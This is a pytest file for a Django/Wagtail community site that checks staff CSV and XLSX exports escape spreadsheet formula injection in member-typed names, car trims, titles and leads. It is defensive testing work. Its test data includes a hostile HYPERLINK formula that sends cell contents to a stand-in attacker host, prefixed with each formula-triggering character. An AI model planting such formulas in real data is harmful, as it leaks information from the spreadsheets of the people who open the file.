"""Every CSV and XLSX file staff can download shows member-typed text as text.

A member who calls themselves ``=HYPERLINK("https://evil.example/"&A1)`` (or starts a car's trim,
a post's title or an accessory question with ``+``, ``-``, ``@``, a tab or a carriage return) must
not get a formula run on the dealership's computer when staff open the RSVP list, a report, the
leads, the check-in list or the members' cars in a spreadsheet. The rule lives in
``community.spreadsheets``; these tests download every file staff can download and read it back.
"""

import csv
import io

import pytest
from django.urls import URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from community.spreadsheets import FORMULA_START, formula_safe

pytestmark = pytest.mark.django_db

PAYLOADS = [f'{start}HYPERLINK("https://evil.example/"&A1)' for start in FORMULA_START]

# Every download staff can make: URL name -> whether member- or staff-typed text reaches it.
DOWNLOADS = {
    "staff:report_attendance": True,  # event titles
    "staff:report_growth": False,  # months and counts only
    "staff:report_clubs": True,  # club titles
    "staff:report_leads": True,  # accessory titles
    "staff:report_invitations": False,  # events that sent invitations (none here)
    "wagtailsnippets_community_car:list": True,  # owners, trims, colours
    "event_rsvps:index": True,  # member names
    "accessory_leads:index": True,  # names typed by visitors
    "sales_leads:index": True,  # members' names and messages
    "post:index": True,  # titles and authors
    "comment:index": False,  # "Comment by <name> on <post>": never starts with member text
    "membership:index": True,  # member names
    # Wagtail's own listings that offer downloads: page titles, names, files.
    **dict.fromkeys(
        [
            "event_routes:index",
            "event_series:index",
            "event_waivers:index",
            "moderation:index",
            "outbox:index",
            "text_outbox:index",
            "texts_received:index",
            "report:index",
            "wagtailadmin_collections:index",
            "wagtailadmin_explore_root",
            "wagtailadmin_reports:aging_pages",
            "wagtailadmin_reports:locked_pages",
            "wagtailadmin_reports:page_types_usage",
            "wagtailadmin_reports:site_history",
            "wagtailadmin_reports:workflow",
            "wagtailadmin_reports:workflow_tasks",
            "wagtailadmin_workflows:index",
            "wagtailadmin_workflows:task_index",
            "wagtaildocs:index",
            "wagtailimages:index",
            "wagtailredirects:index",
            "wagtailsites:index",
            "wagtailsnippets_community_carmodel:list",
            "wagtailusers_groups:index",
            "wagtailusers_users:index",
        ],
        False,
    ),
}


@pytest.fixture(scope="module")
def hostile(django_db_setup, django_db_blocker):
    """One member, car, club, post, event, RSVP, accessory and lead per dangerous first character,
    made once for this module and rolled back after its last test."""
    from django.db import transaction

    with django_db_blocker.unblock(), transaction.atomic():
        yield _make_hostile()
        transaction.set_rollback(True)


def _make_hostile():
    from events.models import Rsvp
    from tests.factories import (
        CarFactory,
        CommentFactory,
        LeadFactory,
        MemberFactory,
        PostFactory,
        SalesLeadFactory,
        make_accessory,
        make_club,
        make_event,
    )

    members = [MemberFactory(display_name=text) for text in PAYLOADS]
    events = []
    for n, (member, text) in enumerate(zip(members, PAYLOADS, strict=True)):
        CarFactory(owner=member, trim=text, colour=text)
        club = make_club(f"{text} {n}", members=[member])
        post = PostFactory(author=member, club=club, title=text)
        CommentFactory(post=post, author=member, body=text)
        event = make_event(f"{text} {n}", days_ahead=n + 1)
        Rsvp.objects.create(
            event=event,
            member=member,
            answer=Rsvp.Answer.GOING,
            state=Rsvp.State.CONFIRMED,
            emergency_contact_name=text,
        )
        events.append(event)
        LeadFactory(accessory=make_accessory(f"{text} {n}"), name=text, message=text)
        SalesLeadFactory(member=member, name=text, message=text, make="MINI", model=text)
    return events


def _cells_csv(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _cells_xlsx(content: bytes) -> list:
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell.value for row in sheet.iter_rows() for cell in row]


def _download(client, url: str, fmt: str) -> bytes:
    response = client.get(url, {"export": fmt})
    assert response.status_code == 200, url
    assert "attachment" in response["Content-Disposition"], url
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


def _assert_neutralised(cells, *, text_expected: bool):
    strings = [cell for cell in cells if isinstance(cell, str)]
    runnable = [cell for cell in strings if formula_safe(cell) != cell]
    assert runnable == [], f"cells a spreadsheet would run: {runnable}"
    if text_expected:
        # openpyxl reads a stored carriage return back as a line feed
        starts = {
            cell[1].replace("\n", "\r")
            for cell in strings
            if cell[:1] == "'" and "evil.example" in cell
        }
        assert starts == set(FORMULA_START), "the hostile text did not reach this download"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("name", sorted(DOWNLOADS))
def test_download_shows_member_typed_formulas_as_text(client, staff, hostile, name, fmt):
    client.force_login(staff)
    content = _download(client, reverse(name), fmt)
    cells = _cells_csv(content) if fmt == "csv" else _cells_xlsx(content)
    _assert_neutralised(cells, text_expected=DOWNLOADS[name])


def test_xlsx_download_holds_no_formula_cells(client, staff, hostile):
    client.force_login(staff)
    content = _download(client, reverse("event_rsvps:index"), "xlsx")
    sheet = load_workbook(io.BytesIO(content)).active
    kinds = {cell.data_type for row in sheet.iter_rows() for cell in row}
    assert "f" not in kinds


def test_checkin_attendee_list_shows_member_typed_formulas_as_text(client, staff, hostile):
    client.force_login(staff)
    for event in hostile:
        response = client.get(reverse("events:checkin_csv", args=[event.pk]))
        assert response.status_code == 200
        _assert_neutralised(_cells_csv(response.content), text_expected=False)
    cells = [
        cell
        for event in hostile
        for cell in _cells_csv(client.get(reverse("events:checkin_csv", args=[event.pk])).content)
    ]
    assert {cell[1] for cell in cells if cell[:1] == "'"} == set(FORMULA_START)


def test_phone_numbers_stay_numbers():
    assert formula_safe("+44 7700 900123") == "+44 7700 900123"


def test_every_download_staff_can_make_is_checked(client, staff, hostile):
    """A new listing with ``list_export`` fails here until it is added to DOWNLOADS above."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    client.force_login(staff)

    def names(resolver, namespace=""):
        for pattern in resolver.url_patterns:
            if isinstance(pattern, URLResolver):
                inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
                yield from names(pattern, inner)
            elif (
                pattern.name
                and not pattern.name.endswith("_results")
                and not pattern.pattern.converters
                and issubclass(
                    getattr(pattern.callback, "view_class", object), SpreadsheetExportMixin
                )
            ):
                yield namespace + pattern.name

    offered = set()
    for name in names(get_resolver()):
        response = client.get(reverse(name), {"export": "csv"})
        if "attachment" in response.get("Content-Disposition", ""):
            offered.add(name)
    assert offered == set(DOWNLOADS)
